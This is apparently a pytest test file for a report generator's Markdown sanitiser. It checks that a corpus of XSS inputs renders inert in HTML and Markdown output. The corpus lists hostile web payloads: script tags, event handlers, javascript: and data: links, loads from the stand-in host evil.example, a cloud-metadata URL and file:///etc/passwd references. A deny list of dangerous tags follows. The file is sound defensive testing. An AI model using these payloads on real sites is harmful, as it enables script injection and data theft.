"""Markdown fields: an XSS corpus renders inert in report.html and report.md."""

from __future__ import annotations

import re

import pytest
from html_tree import parse
from render_helpers import render_both

from genreport.render.markdown import to_html, to_markdown

CORPUS = [
    "<script>alert('x')</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<img src="http://evil.example/pixel.png">',
    '<iframe src="https://evil.example"></iframe>',
    "<svg><script>alert(1)</script></svg>",
    '<svg onload="alert(1)"/>',
    "<style>body{display:none}</style>",
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#115;cript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "![pixel](http://evil.example/pixel.png)",
    "![x](data:image/png;base64,AAAA)",
    "<http://evil.example/autolink>",
    "text {onclick=alert(1)}",
    '<div style="position:fixed;top:0">overlay</div>',
    "<!-- comment --><p onmouseover=alert(1)>hover</p>",
    "<object data=x></object><embed src=x>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '<form action="http://evil.example"><input name=x></form>',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    "<style>@import url(http://evil.example/x.css);</style>",
    '<p style="background:url(http://169.254.169.254/latest/meta-data/)">x</p>',
    '<a rel="attachment" href="file:///etc/passwd">passwd</a>',
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>',
]

DANGEROUS_TAGS = {
    "script",
    "iframe",
    "img",
    "svg",
    "style",
    "object",
    "embed",
    "math",
    "form",
    "input",
    "div",
    "link",
    "image",
}


def _assert_inert_html(fragment: str) -> None:
    tree = parse(f"<div>{fragment}</div>")
    for node in list(tree.iter())[2:]:  # below the wrapper
        assert node.tag not in DANGEROUS_TAGS, fragment
        for name, value in node.attrs.items():
            assert not name.startswith("on"), fragment
            assert name not in {"style", "src", "srcset", "action", "formaction"}, fragment
            if name == "href":
                assert re.match(r"(https?:|mailto:|#)", value or ""), fragment
            if name == "rel":
                assert "attachment" not in (value or ""), fragment


@pytest.mark.parametrize("payload", CORPUS)
def test_markdown_field_is_inert_in_html(payload):
    _assert_inert_html(str(to_html(payload)))
    _assert_inert_html(str(to_html(f"正文 {payload} 正文\n\n- 列表 {payload}")))


@pytest.mark.parametrize("payload", CORPUS)
def test_markdown_field_is_inert_in_markdown(payload):
    out = to_markdown(payload)
    assert "<" not in out  # no raw HTML and no autolink survives
    assert not re.search(r"\]\(\s*(javascript|data|vbscript):", out, re.IGNORECASE)
    assert not re.search(r"^\s*\[[^\]]+\]:\s*(javascript|data):", out, re.IGNORECASE | re.MULTILINE)
    assert not re.search(r"(?<!\\)!\[", out)  # no image to fetch
    # and what a Markdown renderer makes of it is inert too
    _assert_inert_html(str(to_html(out)))


def test_text_survives_sanitising():
    html = str(to_html("全年办理 **60** 件，*同比* 增长。\n\n| 指标 | 数值 |\n| --- | ---: |\n| 案件 | 60 |"))
    assert "<strong>60</strong>" in html and "<em>同比</em>" in html
    assert '<td align="right">60</td>' in html
    assert "&lt;script&gt;" in str(to_html("<script>x</script>"))  # shown, not run


def test_user_headings_never_compete_with_the_document():
    assert "<h1" not in str(to_html("# 标题\n\n正文"))
    assert to_markdown("# 标题").startswith("#### ")


def test_whole_report_with_hostile_fields(tmp_path):
    from conftest import EXAMPLES

    source = (EXAMPLES / "zuoyun-2023.zh-CN.yaml").read_text(encoding="utf-8")
    hostile = "正文<script>alert(1)</script><img src=x onerror=alert(1)>[x](javascript:alert(1))"
    source = re.sub(r"(?m)^preamble: >-\n", "preamble: |-\n  " + hostile.replace("\\", "\\\\") + "\n", source, count=1)
    source = re.sub(r"(?m)^(\s+- lead: ).*$", r'\1"<b onclick=x>承接</b>"', source, count=1)
    assert "<b onclick" in source
    path = tmp_path / "hostile.yaml"
    path.write_text(source, encoding="utf-8")
    html, md = render_both(path)
    assert "<script>alert" not in html
    tree = parse(html)
    assert not tree.find_all("script") and not tree.find_all("img") and not tree.find_all("b")
    assert all(not k.startswith("on") for n in tree.iter() for k in n.attrs)
    assert "&lt;script&gt;alert(1)" in tree.find("div", "preamble").find("p").text.replace("<", "&lt;").replace(
        ">", "&gt;"
    )
    assert "<script>" not in md and "](javascript:" not in md and "&lt;script>" in md
